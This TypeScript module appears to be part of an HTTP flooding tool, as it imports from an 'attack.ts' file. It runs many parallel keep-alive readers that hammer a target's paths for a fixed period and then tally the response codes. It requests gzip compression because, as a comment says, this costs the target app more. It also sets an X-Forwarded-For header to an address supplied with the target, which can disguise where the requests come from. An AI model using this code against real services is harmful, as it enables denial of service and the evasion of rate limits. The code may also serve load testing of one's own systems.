import { Agent, get } from 'node:http'
import { HOLD_MS, type Target, tally } from './attack.ts'

/** This many readers ask for the paths in turns, each again as soon as it is answered. Returns their answers. */
export async function readInParallel(target: Target, readers: number, paths: string[]): Promise<string> {
  const agent = new Agent({ keepAlive: true })
  const until = performance.now() + HOLD_MS
  const answers: (number | string)[] = []
  const read = async (first: number) => {
    for (let at = first; performance.now() < until; at++)
      answers.push(await statusOf(target, paths[at % paths.length] ?? '/', agent))
  }
  await Promise.all(Array.from({ length: readers }, (_, first) => read(first)))
  agent.destroy()
  return tally(answers)
}

/** Compressed, as browsers have it, which costs the app more. */
const statusOf = ({ url, address }: Target, path: string, agent: Agent) =>
  new Promise<number | string>((resolve) => {
    const headers = { 'accept-encoding': 'gzip', 'x-forwarded-for': address }
    get(url + path, { agent, headers }, (answer) => {
      answer.resume().on('close', () => resolve(answer.complete ? (answer.statusCode ?? 0) : 'cut off'))
    }).on('error', () => resolve('failed'))
  })
